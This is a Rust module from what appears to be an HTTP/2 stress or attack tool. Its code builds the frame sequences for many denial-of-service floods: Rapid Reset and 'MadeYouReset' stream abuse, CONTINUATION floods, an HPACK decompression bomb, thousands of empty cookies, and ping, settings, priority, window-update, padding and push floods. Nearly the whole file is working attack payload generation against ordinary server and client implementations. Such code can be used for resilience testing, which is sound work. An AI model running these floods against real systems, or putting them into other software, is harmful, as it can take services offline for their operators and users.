//! What each flood sends in one go.

use super::{Flood, Offence};
use crate::h2::code::{Code, Setting};
use crate::h2::frame::{Frame, Kind};
use crate::h2::hpack::Block;
use crate::h2::peer::{Miss, Peer, Role};

/// What comes between two waves.
pub(super) enum Pace {
    /// Nothing.
    Burst,
    /// The end of this stream.
    Answered(u32),
    /// Windows.
    Room,
}

pub(super) struct Wave {
    flood: Flood,
    /// The stream of a flood that needs one.
    stream: u32,
    count: u32,
    /// The head of each request, where that is large.
    head: Option<Block>,
}

impl Wave {
    pub(super) async fn new(flood: Flood, peer: &mut Peer) -> Result<Self, Miss> {
        let stream = match flood {
            Flood::Continuation | Flood::EmptyContinuation => {
                let (stream, block) = peer.message().await?;
                peer.send(Frame::headers(stream, block).unfinished().end_stream()).await;
                stream
            }
            Flood::Interim | Flood::Reset | Flood::GoAway | Flood::Push => peer.message().await?.0,
            Flood::EmptyData | Flood::TinyData | Flood::Padding | Flood::WindowUpdate => begin(peer).await?,
            _ => 0,
        };
        let head = match flood {
            Flood::HpackBomb => Some(bomb()),
            Flood::CookieCrumbs => Some(crumbs()),
            _ => None,
        };
        Ok(Self { flood, stream, count: 0, head })
    }

    pub(super) fn next(&mut self, peer: &mut Peer) -> (Vec<Frame>, Pace) {
        self.count += 1;
        if let Some(head) = &self.head {
            let stream = peer.fresh();
            return (vec![Frame::headers(stream, head).end_stream()], Pace::Answered(stream));
        }
        match self.flood {
            Flood::TinyData => (self.data(peer, |stream| Frame::data(stream, "x")), Pace::Room),
            Flood::Padding => (self.data(peer, |stream| Frame::data(stream, "x").padded(254)), Pace::Room),
            _ => ((0..UNITS).flat_map(|unit| self.unit(peer, unit)).collect(), Pace::Burst),
        }
    }

    /// As many of these as the windows allow.
    fn data(&self, peer: &mut Peer, make: impl Fn(u32) -> Frame) -> Vec<Frame> {
        let frame = make(self.stream);
        let fitting = peer.room(self.stream) / frame.payload.len();
        let frames = vec![frame; fitting.min(UNITS as usize)];
        frames.iter().for_each(|frame| peer.note(frame));
        frames
    }

    fn unit(&self, peer: &mut Peer, unit: u32) -> Vec<Frame> {
        let turn = self.count * UNITS + unit;
        match self.flood {
            Flood::RapidReset => rapid(peer.fresh()),
            Flood::MadeYouReset(offence) => made(peer.fresh(), offence),
            Flood::Continuation => vec![Frame::continuation(self.stream, Block::new().field("x-a", "b")).unfinished()],
            Flood::EmptyContinuation => vec![Frame::continuation(self.stream, []).unfinished()],
            Flood::Ping => vec![Frame::ping(u64::from(turn).to_be_bytes())],
            Flood::Pong => vec![Frame::ping_ack(u64::from(turn).to_be_bytes())],
            Flood::Settings => vec![Frame::settings(&[(Setting::INITIAL_WINDOW_SIZE, 65_535 + turn % 1000)])],
            Flood::Priority => vec![Frame::priority(2 * turn + 1_000_001, 2 * turn + 999_999, turn as u8)],
            Flood::PriorityUpdate => vec![Frame::priority_update(2 * turn + 1_000_001, "u=1, i")],
            Flood::EmptyData => vec![Frame::data(self.stream, "")],
            Flood::WindowUpdate => vec![Frame::window_update(self.stream, 1)],
            Flood::Unknown => vec![Frame::new(Kind(0xfa), 0, turn.to_be_bytes())],
            Flood::Interim => vec![Frame::headers(self.stream, Block::response("103").field("link", "</x>"))],
            Flood::Reset => vec![Frame::reset(self.stream, Code::CANCEL)],
            Flood::GoAway => vec![Frame::go_away(self.stream, Code::NO_ERROR)],
            Flood::Push => vec![Frame::push_promise(self.stream, 2 * turn, Block::request("GET", "/pushed"))],
            // Made by other means.
            Flood::HpackBomb
            | Flood::CookieCrumbs
            | Flood::TinyData
            | Flood::Padding
            | Flood::Stall
            | Flood::Drip(_)
            | Flood::SlowFields(_) => Vec::new(),
        }
    }
}

/// A message whose content is read by the other end.
async fn begin(peer: &mut Peer) -> Result<u32, Miss> {
    if peer.role() == Role::Server {
        return peer.open().await;
    }
    let stream = peer.fresh();
    peer.send(Frame::headers(stream, Block::request("POST", "/"))).await;
    Ok(stream)
}

fn rapid(stream: u32) -> Vec<Frame> {
    let request = Frame::headers(stream, Block::request("GET", "/")).end_stream();
    vec![request, Frame::reset(stream, Code::CANCEL)]
}

fn made(stream: u32, offence: Offence) -> Vec<Frame> {
    let open = Frame::headers(stream, Block::request("POST", "/hold"));
    let ended = open.clone().end_stream();
    match offence {
        Offence::ZeroWindowUpdate => vec![ended, Frame::window_update(stream, 0)],
        Offence::WindowOverflow => vec![ended, Frame::window_update(stream, 0x7fff_ffff)],
        Offence::DataAfterEnd => vec![ended, Frame::data(stream, "")],
        Offence::HeadersAfterEnd => vec![ended, Frame::headers(stream, Block::new().field("x-a", "b")).end_stream()],
        Offence::PriorityLength => vec![ended, Frame::new(Kind::PRIORITY, stream, [0; 4])],
        Offence::Malformed => {
            vec![Frame::headers(stream, Block::request("GET", "/").field("connection", "close")).end_stream()]
        }
        Offence::ContentLength => {
            let block = Block::request("POST", "/hold").field("content-length", "1");
            vec![Frame::headers(stream, block), Frame::data(stream, "xx").end_stream()]
        }
    }
}

/// A request that has the decoder hold a field of nearly its whole table, and names it in every octet from then on.
fn bomb() -> Block {
    let block = Block::request("GET", "/").remembered("x-bomb", "x".repeat(4000));
    block.repeated(12_000, &Block::new().indexed(62))
}

/// A request with thousands of cookies, each without a value.
fn crumbs() -> Block {
    Block::request("GET", "/").repeated(5000, &Block::new().named(32, ""))
}

/// How much is sent in one go.
const UNITS: u32 = 64;
